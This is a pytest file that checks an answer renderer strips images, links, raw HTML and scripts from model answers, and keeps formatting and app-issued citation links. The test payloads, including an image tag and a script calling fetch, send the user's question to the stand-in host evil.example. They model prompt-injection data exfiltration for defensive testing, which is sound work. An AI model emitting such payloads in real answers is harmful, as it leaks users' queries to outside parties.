"""Answers are shown without loading an image or making a link an answer holds (prompt injection)."""

import pytest

from app.answer_html import answer_html

LEAK = "https://evil.example/collect?q=the-question"


@pytest.mark.parametrize(
    "answer",
    [
        f"Ramps are 1:12 [1]. ![status]({LEAK})",
        f"Ramps are 1:12 [1]. ![status][pixel]\n\n[pixel]: {LEAK}",
        f"See [the source]({LEAK} \"title\").",
        f"See <{LEAK}>.",
        f'<img src="{LEAK}"> <script>fetch("{LEAK}")</script> <a href="{LEAK}">x</a>',
        f"[![badge]({LEAK})]({LEAK})",
        f"    indented code\n\n    ![x]({LEAK})",
        f"```\n![x]({LEAK})\n```",
        f"| a | b |\n|---|---|\n| ![x]({LEAK}) | [y]({LEAK}) |",
    ],
)
def test_no_image_link_or_html_of_the_answer_survives(answer):
    html = answer_html(answer)
    assert "<img" not in html and "<a " not in html and "<script" not in html
    assert 'src="' not in html and 'href="' not in html  # as text they read src=&quot;
    assert LEAK.replace("&", "&amp;") in html, "the target stays visible as text"


def test_the_rest_of_the_markdown_is_kept():
    html = answer_html("Use **C30/37** [2].\n\n- footings\n- walls\n\n| grade | use |\n|---|---|\n| C30/37 | footings |")
    assert "<strong>C30/37</strong> [2]" in html and "<li>footings</li>" in html and "<td>C30/37</td>" in html


def test_a_link_shows_its_text_then_its_target():
    html = answer_html("Read [the code](https://docs.example/code).")
    assert 'the code (<code class="plumb-target">https://docs.example/code</code>)' in html


def test_citation_markers_link_to_the_addresses_the_app_gives():
    html = answer_html("Wind is 120 mph [1][2] and [3, 9] ([1]).", {1: "document?chunk=a&user=x", 3: "document?chunk=c"})
    assert html.count('href="document?chunk=a&amp;user=x"') == 2
    assert '[<a class="plumb-cite" href="document?chunk=c" target="_blank">3</a>, 9]' in html
    assert "[2]" in html, "a marker with no passage stays text"


def test_a_marker_inside_an_answers_own_link_gets_only_the_apps_address():
    html = answer_html(f"[[1]]({LEAK})", {1: "document?chunk=a"})
    assert 'href="document?chunk=a"' in html and f'href="{LEAK}' not in html
